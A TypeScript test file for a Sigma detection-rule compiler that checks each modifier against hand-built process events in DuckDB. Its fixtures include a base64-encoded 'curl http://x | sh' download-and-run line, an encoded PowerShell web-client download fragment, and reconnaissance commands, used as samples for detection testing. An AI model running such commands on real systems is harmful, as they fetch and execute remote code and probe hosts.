// One test per Sigma modifier (and the language around them), each with an event that matches
// and one that does not, run in DuckDB over a small hand-built case; properties of the pure
// value transforms with fast-check.
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CaseStore } from '../../store/case-store.ts';
import { sql } from '../../store/sql.ts';
import { tempDir } from '../../testing/temp.ts';
import { addCapture, call } from '../testing/build-case.ts';
import { buildProcessTree } from '../process-tree.ts';
import { parseCidr } from './cidr.ts';
import { compileCondition } from './compile.ts';
import { base64OffsetVariants, parseGlob, planModifiers, WINDASH_CHARS, windashVariants } from './modifiers.ts';
import { parseRuleFile } from './parse.ts';

const b64 = (s: string, enc: BufferEncoding = 'utf8'): string => Buffer.from(s, enc).toString('base64');

// pid → the event's source fields (read by rules as fields.<Name>).
const EVENTS: Record<number, Record<string, string>> = {
  100: {
    CommandLine: 'cmd.exe /c whoami -all',
    DestinationIp: '10.1.2.3',
    User: 'CORP\\Admin',
    TargetUser: 'corp\\admin',
    Count: '42',
    UtcTime: '2024-05-01 22:15:00',
    Script: `powershell -enc ${b64('IEX (New-Object Net.WebClient)', 'utf16le')}`,
    Blob: b64('#!/bin/sh\ncurl http://x | sh\n'),
    Multi: 'first line\nsecond line',
    Hashes: 'SHA1=AAAA,MD5=0123456789ABCDEF0123456789ABCDEF',
  },
  101: {
    CommandLine: 'cmd.exe \u2013c whoami \u2014all',
    DestinationIp: 'fe80::1',
    User: 'svc',
    TargetUser: 'other',
    Count: '7',
    UtcTime: '2024-05-01 08:00:00',
    Script: `powershell -enc ${b64('Get-Date', 'utf16le')}`,
    Blob: b64('echo hello'),
    Multi: 'one line',
    Hashes: 'SHA1=BBBB',
  },
  102: {
    CommandLine: 'C:\\Windows\\*literal?.exe',
    DestinationIp: '192.168.1.1',
    Script: `${Buffer.from([0xff, 0xfe]).toString('latin1')}`,
    Blob: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('net user', 'utf16le')]).toString('base64') + '|' + Buffer.from('net user', 'utf16le').swap16().toString('base64'),
  },
};

describe('Sigma modifiers in DuckDB', () => {
  const dir = tempDir();
  let store: CaseStore;
  beforeAll(async () => {
    store = await CaseStore.open(dir.file('c.duckdb'));
    const pids = Object.keys(EVENTS).map(Number);
    await addCapture(store, [
      ...pids.map((pid, i) => call(i, pid, 'execve', `/bin/p${pid}`, `argv of ${pid}`, { fields: EVENTS[pid] })),
      call(5, 103, 'openat', '/etc/ld.so.preload', 'AT_FDCWD, "/etc/ld.so.preload", O_RDONLY'),
    ]);
    await buildProcessTree(store);
  });
  afterAll(() => {
    store.close();
    dir.remove();
  });
  /** The pids of the events the detection matches. */
  const pids = async (detection: string): Promise<number[]> => {
    const [rule] = parseRuleFile(`title: t\nid: m1\ndetection:\n${detection}`, 't.yml');
    if (!rule?.condition) throw new Error('no rule');
    const rows = await store.rows(
      sql`SELECT DISTINCT e.pid FROM event_rows e LEFT JOIN triage_proc p ON p.capture_id = e.capture_id AND p.pid = e.pid WHERE ${compileCondition(rule, rule.condition)} ORDER BY 1`,
      { pid: 'num' },
    );
    return rows.map((r) => r.pid);
  };
  const sel = (line: string, condition = 'sel'): string => `  sel:\n    ${line}\n  condition: ${condition}\n`;

  it('contains / startswith / endswith, case-insensitive by default', async () => {
    expect(await pids(sel("fields.CommandLine|contains: 'WHOAMI -ALL'"))).toEqual([100]);
    expect(await pids(sel("fields.CommandLine|startswith: 'CMD.exe /c'"))).toEqual([100]);
    expect(await pids(sel("fields.CommandLine|endswith: '\u2014all'"))).toEqual([101]);
  });
  it('cased makes the comparison case-sensitive', async () => {
    expect(await pids(sel("fields.User|cased: 'svc'"))).toEqual([101]);
    expect(await pids(sel("fields.User|cased|endswith: 'admin'"))).toEqual([]);
    expect(await pids(sel("fields.User|endswith: 'admin'"))).toEqual([100]);
  });
  it('all turns a value list into an AND', async () => {
    expect(await pids(sel("fields.CommandLine|contains|all: ['cmd', 'whoami', '-all']"))).toEqual([100]);
    expect(await pids(sel("fields.CommandLine|contains: ['/c', 'nothing-here']"))).toEqual([100]);
    expect(await pids(sel("fields.CommandLine|contains|all: ['/c', 'nothing-here']"))).toEqual([]);
  });
  it('wildcards * and ? match; \\* and \\? are literal', async () => {
    expect(await pids(sel("fields.CommandLine: 'cmd.exe ?c who*'"))).toEqual([100, 101]);
    // In Sigma, \\ is one backslash, \* a literal star, \? a literal question mark.
    expect(await pids(sel("fields.CommandLine: 'C:\\Windows\\\\\\*literal\\?.ex?'"))).toEqual([102]);
    expect(await pids(sel("fields.CommandLine: 'C:\\Windows\\\\\\?literal*'"))).toEqual([]);
  });
  it('re is case-sensitive; re|i, re|m and re|s set the flags', async () => {
    expect(await pids(sel("fields.CommandLine|re: 'whoami -a(ll|ny)$'"))).toEqual([100]);
    expect(await pids(sel("fields.CommandLine|re: 'WHOAMI'"))).toEqual([]);
    expect(await pids(sel("fields.CommandLine|re|i: 'WHOAMI -ALL'"))).toEqual([100]);
    expect(await pids(sel("fields.Multi|re: '^second'"))).toEqual([]);
    expect(await pids(sel("fields.Multi|re|m: '^second'"))).toEqual([100]);
    expect(await pids(sel("fields.Multi|re: 'first.line.second'"))).toEqual([]);
    expect(await pids(sel("fields.Multi|re|s: 'first.line.second'"))).toEqual([100]);
  });
  it('windash accepts -, /, en dash, em dash and horizontal bar for a dash or slash', async () => {
    expect(await pids(sel("fields.CommandLine|windash|contains: ' -c whoami /all'"))).toEqual([100, 101]);
    expect(await pids(sel("fields.CommandLine|contains: ' -c whoami /all'"))).toEqual([]);
  });
  it('cidr matches IPv4 and IPv6 networks', async () => {
    expect(await pids(sel("fields.DestinationIp|cidr: ['10.0.0.0/8', '172.16.0.0/12']"))).toEqual([100]);
    expect(await pids(sel("fields.DestinationIp|cidr: '10.1.3.0/24'"))).toEqual([]);
    expect(await pids(sel("fields.DestinationIp|cidr: 'fe80::/10'"))).toEqual([101]);
    expect(await pids(sel("fields.DestinationIp|cidr: 'fc00::/7'"))).toEqual([]);
  });
  it('base64 matches the encoded value; base64offset finds it at any offset', async () => {
    expect(await pids(sel(`fields.Blob|base64: 'echo hello'`))).toEqual([101]);
    expect(await pids(sel(`fields.Blob|base64: 'echo'`))).toEqual([]);
    expect(await pids(sel(`fields.Blob|base64offset|contains: 'curl http'`))).toEqual([100]);
    expect(await pids(sel(`fields.Blob|base64offset|contains: 'wget http'`))).toEqual([]);
  });
  it('utf16le / wide, utf16be and utf16 encode before base64', async () => {
    expect(await pids(sel(`fields.Script|utf16le|base64offset|contains: 'New-Object'`))).toEqual([100]);
    expect(await pids(sel(`fields.Script|wide|base64offset|contains: 'Get-Date'`))).toEqual([101]);
    expect(await pids(sel(`fields.Script|base64offset|contains: 'New-Object'`))).toEqual([]);
    expect(await pids(sel(`fields.Blob|utf16be|base64|contains: 'net user'`))).toEqual([102]);
    expect(await pids(sel(`fields.Blob|utf16|base64|startswith: 'net user'`))).toEqual([102]);
    expect(await pids(sel(`fields.Blob|utf16|base64|startswith: 'net group'`))).toEqual([]);
  });
  it('fieldref compares two fields of the same event', async () => {
    expect(await pids(sel('fields.User|fieldref: fields.TargetUser'))).toEqual([100]);
    expect(await pids(sel('fields.User|fieldref|cased: fields.TargetUser'))).toEqual([]);
    expect(await pids(sel('fields.TargetUser|fieldref|endswith: fields.User'))).toEqual([100]);
    expect(await pids(sel('fields.CommandLine|fieldref|contains: fields.User'))).toEqual([]);
  });
  it('exists true / false', async () => {
    expect(await pids(sel('fields.Hashes|exists: true'))).toEqual([100, 101]);
    expect(await pids(sel('fields.Hashes|exists: false', 'sel and not other\n  other:\n    op: openat'))).toEqual([102]);
  });
  it('lt / lte / gt / gte compare numbers', async () => {
    expect(await pids(sel('fields.Count|gt: 7'))).toEqual([100]);
    expect(await pids(sel('fields.Count|gte: 7'))).toEqual([100, 101]);
    expect(await pids(sel('fields.Count|lt: 42'))).toEqual([101]);
    expect(await pids(sel('fields.Count|lte: 6'))).toEqual([]);
  });
  it('neq and the time modifiers', async () => {
    expect(await pids(sel("fields.User|neq: 'svc'"))).toEqual([100]);
    expect(await pids(sel('fields.UtcTime|hour|gte: 20'))).toEqual([100]);
    expect(await pids(sel('fields.UtcTime|month: 5'))).toEqual([100, 101]);
    expect(await pids(sel('fields.UtcTime|year: 2023'))).toEqual([]);
  });
  it('null values match a missing field', async () => {
    expect(await pids(sel('fields.User: null', 'sel and not o\n  o:\n    op: openat'))).toEqual([102]);
    expect(await pids(sel('fields.CommandLine: null', 'sel and not o\n  o:\n    op: openat'))).toEqual([]);
  });
  it('keywords search the whole event text, with |all for every keyword', async () => {
    expect(await pids('  keywords:\n    - ld.so.preload\n    - nothing-like-this\n  condition: keywords\n')).toEqual([103]);
    expect(await pids("  keywords:\n    '|all':\n      - ld.so.preload\n      - O_RDONLY\n  condition: keywords\n")).toEqual([103]);
    expect(await pids("  keywords:\n    '|all':\n      - ld.so.preload\n      - O_WRONLY\n  condition: keywords\n")).toEqual([]);
  });
  it('1 of / all of with wildcards and them', async () => {
    const d = "  sel_a:\n    fields.User: svc\n  sel_b:\n    fields.Count: '7'\n  filter_x:\n    fields.User: nobody\n";
    expect(await pids(`${d}  condition: all of sel_*\n`)).toEqual([101]);
    expect(await pids(`${d}  condition: 1 of sel_* and not 1 of filter_*\n`)).toEqual([101]);
    expect(await pids(`${d}  condition: all of them\n`)).toEqual([]);
    expect(await pids(`${d}  condition: 1 of them\n`)).toEqual([101]);
  });
  it('a long value list is one bound list lookup and still matches', async () => {
    const hashes = Array.from({ length: 800 }, (_, i) => `MD5=${i.toString(16).padStart(32, '0')}`);
    const list = (extra: string): string => [...hashes, extra].map((h) => `      - '${h}'`).join('\n');
    const [rule] = parseRuleFile(`title: t\nid: h\ndetection:\n  sel:\n    fields.Hashes|contains:\n${list('MD5=0123456789abcdef0123456789abcdef')}\n  condition: sel\n`, 'h.yml');
    const where = compileCondition(rule as never, rule?.condition as never);
    expect(where.render().params.length).toBeLessThan(5);
    expect(await pids(`  sel:\n    fields.Hashes|contains:\n${list('MD5=0123456789abcdef0123456789abcdef')}\n  condition: sel\n`)).toEqual([100]);
    expect(await pids(`  sel:\n    fields.Hashes|contains:\n${list('MD5=ffff')}\n  condition: sel\n`)).toEqual([]);
  });
});

describe('long value lists keep Sigma semantics', () => {
  const dir = tempDir();
  let store: CaseStore;
  beforeAll(async () => {
    store = await CaseStore.open(dir.file('c.duckdb'));
    await addCapture(store, Object.entries(EVENTS).map(([pid, fields], i) => call(i, Number(pid), 'execve', null, '', { fields })));
  });
  afterAll(() => {
    store.close();
    dir.remove();
  });
  const pidsFor = async (field: string, values: string[]): Promise<number[]> => {
    const filler = Array.from({ length: 30 }, (_, i) => `no-such-value-${i}.(x)$`);
    const list = [...filler, ...values].map((v) => `      - '${v}'`).join('\n');
    const [rule] = parseRuleFile(`title: t\nid: l\ndetection:\n  sel:\n    ${field}:\n${list}\n  condition: sel\n`, 'l.yml');
    if (!rule?.condition) throw new Error('no rule');
    const rows = await store.rows(sql`SELECT e.pid FROM event_rows e WHERE ${compileCondition(rule, rule.condition)} ORDER BY 1`, { pid: 'num' });
    return rows.map((r) => r.pid);
  };
  it('exact values, wildcards, escapes and regex metacharacters, case-insensitive unless cased', async () => {
    expect(await pidsFor('fields.User', ['corp\\adm'])).toEqual([]); // exact: a prefix is not enough
    expect(await pidsFor('fields.User', ['CORP\\ADMIN', 'SV?'])).toEqual([100, 101]);
    expect(await pidsFor('fields.User|cased', ['CORP\\ADMIN', 'sv?'])).toEqual([101]);
    expect(await pidsFor('fields.CommandLine', ['C:\\Windows\\\\\\*literal\\?.exe'])).toEqual([102]);
    expect(await pidsFor('fields.CommandLine', ['C:\\Windows\\\\\\?literal*'])).toEqual([]);
    expect(await pidsFor('fields.CommandLine|contains', ['whoami -a', 'whoami \u2014'])).toEqual([100, 101]);
    expect(await pidsFor('fields.CommandLine|endswith', ['.exe'])).toEqual([102]);
    expect(await pidsFor('fields.CommandLine|startswith', ['cmd.exe /c w*i -'])).toEqual([100]);
  });
});

describe('modifier chains', () => {
  it('rejects unknown and misplaced modifiers with a reason', () => {
    expect(() => planModifiers(['contanis'])).toThrow(/unsupported modifier "\|contanis"/);
    expect(() => planModifiers(['i'])).toThrow(/sub-modifier of "\|re"/);
    expect(() => planModifiers(['utf16le'])).toThrow(/needs "\|base64"/);
    expect(() => planModifiers(['contains', 'endswith'])).toThrow(/cannot be combined/);
    expect(planModifiers(['re', 'i', 's'])).toMatchObject({ kind: 're', reFlags: 'is' });
  });
  it('reads CIDR networks', () => {
    expect(parseCidr('10.0.0.0/8')).toEqual({ version: 4, low: 167772160, high: 184549375 });
    expect(() => parseCidr('10.0.0/8')).toThrow(/IPv4/);
  });
});

describe('value transforms (properties)', () => {
  const word = fc.stringMatching(/^[a-z][a-z0-9]{0,8}$/);
  it('windash: a flag gets exactly the five dash variants, nothing else changes', () => {
    fc.assert(
      fc.property(word, word, (cmd, flag) => {
        const variants = windashVariants(parseGlob(`${cmd} -${flag}`)).map((g) => g.join(''));
        expect(variants.sort()).toEqual(WINDASH_CHARS.map((d) => `${cmd} ${d}${flag}`).sort());
      }),
    );
  });
  it('base64offset: the variant for the value\'s offset is in the encoding of any text around it', () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 8 }), fc.uint8Array({ minLength: 1, maxLength: 20 }), fc.uint8Array({ maxLength: 8 }), (pre, value, post) => {
        const variants = base64OffsetVariants(Buffer.from(value));
        const whole = Buffer.concat([pre, value, post]).toString('base64');
        expect(whole).toContain(variants[pre.length % 3]);
      }),
    );
  });
  it('escaping: a value with every wildcard escaped is exactly its literal text', () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom('a', '*', '?', '\\', '%', '_', 'x') }), (text) => {
        const escaped = text.replace(/[\\*?]/g, (c) => `\\${c}`);
        expect(parseGlob(escaped)).toEqual(text ? [text] : []);
      }),
    );
  });
});
